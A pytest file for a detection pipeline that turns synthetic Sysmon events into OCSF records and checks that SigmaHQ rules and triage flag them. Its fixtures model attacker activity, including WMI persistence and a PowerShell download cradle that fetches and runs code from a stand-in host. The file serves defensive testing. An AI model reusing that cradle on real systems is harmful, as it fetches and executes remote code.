"""Sysmon 6 (driver loaded), 9 (raw disk read), 19–21 (WMI filter, consumer, binding) and 25 (process
tampering): each, as Sysmon writes it (field names from Sysmon's schema), becomes its OCSF activity, keeps
the original, is seen by the SigmaHQ rules of its category — and through triage, they name those rules."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from flows.normalize import get
from flows.sigma import load_rules
from flows.store import event_row
from flows.tenants import Policy
from flows.triage import triage_files
from flows.winlog import sigma_view

HOST = "WS-ACC-01.acme.local"
WHEN = "2026-11-14T08:52:01.123456Z"


def _sysmon(event_id: int, data: dict[str, Any], record: int = 77) -> dict[str, Any]:
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {
                    "#attributes": {
                        "Name": "Microsoft-Windows-Sysmon",
                        "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
                    }
                },
                "EventID": event_id,
                "Version": 3,
                "Level": 4,
                "TimeCreated": {"#attributes": {"SystemTime": WHEN}},
                "EventRecordID": record,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": HOST,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": {"RuleName": "-", "UtcTime": "2026-11-14 08:52:01.123", **data},
        }
    }


GUID = "{3f1c2a9e-5b6d-6f00-1a2b-000000001f00}"
DRIVER = {
    "ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\kprocesshacker.sys",
    "Hashes": "SHA1=A2B9F4D1E0C3B5A6978877665544332211009988,MD5=1B5C3C458E31BEDE9B1E6EE8A6E1C1B0,"
    "SHA256=70211A3F90376BBC61F49C22A63075D1D4DDD53F0AEFA976216C46E6BA39A9F4,"
    "IMPHASH=821D74031D3F625BCBD0DF08B70F1E77",
    "Signed": "true",
    "Signature": "Winsider Seminars & Solutions, Inc.",
    "SignatureStatus": "Expired",
}
RAW_READ = {
    "ProcessGuid": GUID,
    "ProcessId": 6120,
    "Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\ntfsread.exe",
    "Device": "\\Device\\HarddiskVolume2",
    "User": "ACME\\bob",
}
TAMPERED = {
    "ProcessGuid": GUID,
    "ProcessId": 7001,
    "Image": "C:\\Users\\bob\\AppData\\Roaming\\Updater\\svchost.exe",
    "Type": "Image is replaced",
    "User": "ACME\\bob",
}
WMI_FILTER = {
    "EventType": "WmiFilterEvent",
    "Operation": "Created",
    "User": "ACME\\bob",
    "EventNamespace": '"root\\\\cimv2"',
    "Name": '"Updater"',
    "Query": '"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA '
    "'Win32_PerfFormattedData_PerfOS_System'\"",
}
CRADLE = (
    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
)
WMI_CONSUMER = {
    "EventType": "WmiConsumerEvent",
    "Operation": "Created",
    "User": "ACME\\bob",
    "Name": '"Updater"',
    "Type": "Command Line",
    "Destination": f'"{CRADLE}"',
}
WMI_BINDING = {
    "EventType": "WmiBindingEvent",
    "Operation": "Created",
    "User": "ACME\\bob",
    "Consumer": '"\\\\\\\\.\\\\ROOT\\\\subscription:CommandLineEventConsumer.Name=\\"Updater\\""',
    "Filter": '"\\\\\\\\.\\\\ROOT\\\\subscription:__EventFilter.Name=\\"Updater\\""',
}

# (event id, data, OCSF class / activity, a path of the OCSF event and its value, category, rules expected)
EVENTS = [
    pytest.param(
        6, DRIVER, (1002, 1), ("driver.file.path", DRIVER["ImageLoaded"]), "driver_load",
        {"2c4523d5-d481-4ed0-8ec3-7fbf0cb41a75", "67add051-9ee7-4ad3-93ba-42935615ae8d"}, id="sysmon-6",
    ),
    pytest.param(
        9, RAW_READ, (1001, 2), ("file.path", RAW_READ["Device"]), "raw_access_thread",
        {"db809f10-56ce-4420-8c86-d6a7d793c79c"}, id="sysmon-9",
    ),
    pytest.param(
        19, WMI_FILTER, (0, 99), ("unmapped.wmi.query", WMI_FILTER["Query"]), "wmi_event",
        {"0f06a3a5-6a09-413f-8743-e6cf35561297"}, id="sysmon-19",
    ),
    pytest.param(
        20, WMI_CONSUMER, (0, 99), ("unmapped.wmi.destination", WMI_CONSUMER["Destination"]), "wmi_event",
        {"0f06a3a5-6a09-413f-8743-e6cf35561297", "fe21810c-2a8c-478f-8dd3-5a287fb2a0e0"}, id="sysmon-20",
    ),
    pytest.param(
        21, WMI_BINDING, (0, 99), ("unmapped.wmi.consumer", WMI_BINDING["Consumer"]), "wmi_event",
        {"0f06a3a5-6a09-413f-8743-e6cf35561297"}, id="sysmon-21",
    ),
    pytest.param(
        25, TAMPERED, (1007, 99), ("activity_name", "Image is replaced"), "process_tampering",
        {"c4b890e5-8d8c-4496-8c66-c805753817cd"}, id="sysmon-25",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("event_id", "data", "kind", "pair", "category", "rules"), EVENTS)
def test_each_new_event_is_stored_as_its_ocsf_activity_and_seen_by_its_rules(
    event_id: int,
    data: dict[str, Any],
    kind: tuple[int, int],
    pair: tuple[str, str],
    category: str,
    rules: set[str],
) -> None:
    row = event_row(_sysmon(event_id, data), "acme")
    document = row["document"]
    view = sigma_view(document)

    assert (document["class_uid"], document["activity_id"]) == kind and row["hostname"] == HOST
    assert get(document, pair[0]) == pair[1]
    assert document["unmapped"]["windows"]["event_data"]["RuleName"] == "-"  # nothing lost
    assert view is not None and f"category:{category}" in view.sources and view.fields["EventID"] == event_id
    matched = {m.rule.id for m in load_rules().match([(view.sources, view.fields)])}
    assert rules <= matched, matched


def test_a_driver_s_signature_is_kept_and_an_unsigned_one_has_none() -> None:
    signed = event_row(_sysmon(6, DRIVER), "acme")["document"]
    unsigned = event_row(_sysmon(6, {**DRIVER, "Signed": "false", "SignatureStatus": "Unavailable"}), "acme")

    assert signed["driver"]["file"]["signature"]["certificate"]["subject"] == DRIVER["Signature"]
    assert signed["driver"]["file"]["signature"]["state_id"] == 2  # expired
    assert "signature" not in unsigned["document"]["driver"]["file"]


def test_a_raw_read_sent_as_ocsf_reads_back_as_one_and_a_plain_file_read_does_not() -> None:
    document = event_row(_sysmon(9, RAW_READ), "acme")["document"]
    del document["unmapped"]  # as an EDR would send it: OCSF only
    plain = {**document, "file": {"path": "C:\\Users\\bob\\notes.txt"}}

    view, other = sigma_view(document), sigma_view(plain)

    assert view is not None and "category:raw_access_thread" in view.sources
    assert view.fields["Device"] == RAW_READ["Device"] and view.fields["Image"] == RAW_READ["Image"]
    assert other is None  # a file read that is no block device is no event of the table


def test_triage_names_the_rules_of_the_new_events_on_the_alert_s_host(tmp_path: Path) -> None:
    events = tmp_path / "sysmon.json"
    records = [_sysmon(i, data, 100 + i) for i, data in ((6, DRIVER), (9, RAW_READ), (20, WMI_CONSUMER))]
    records.append(_sysmon(25, TAMPERED, 125))
    events.write_text("\n".join(json.dumps(r, indent=1) for r in records), encoding="utf-8")
    alert = tmp_path / "alert.json"
    stamp = int(datetime(2026, 11, 14, 9, 0, tzinfo=UTC).timestamp() * 1000)
    alert.write_text(
        json.dumps(
            {
                "class_uid": 2004,
                "severity_id": 3,
                "time": stamp,
                "metadata": {"tenant_uid": "acme", "product": {"name": "Some EDR"}, "uid": "a-1"},
                "finding_info": {"uid": "a-1", "title": "Suspicious activity on WS-ACC-01"},
                "device": {"hostname": HOST},
            }
        ),
        encoding="utf-8",
    )

    result = triage_files(alert, events=[events], policy=Policy())

    named = {r.params["rule"] for r in result.verdict.reasons if r.code == "sigma"}
    expected = {
        "2c4523d5-d481-4ed0-8ec3-7fbf0cb41a75",  # driver loaded from Temp
        "db809f10-56ce-4420-8c86-d6a7d793c79c",  # raw disk access by an uncommon tool
        "fe21810c-2a8c-478f-8dd3-5a287fb2a0e0",  # scripting in a WMI consumer
        "c4b890e5-8d8c-4496-8c66-c805753817cd",  # process hollowing
    }
    assert expected <= named, named
    assert result.features["telemetry"] == {"given": True, "skipped": 0}
    assert result.verdict.verdict.value != "benign"
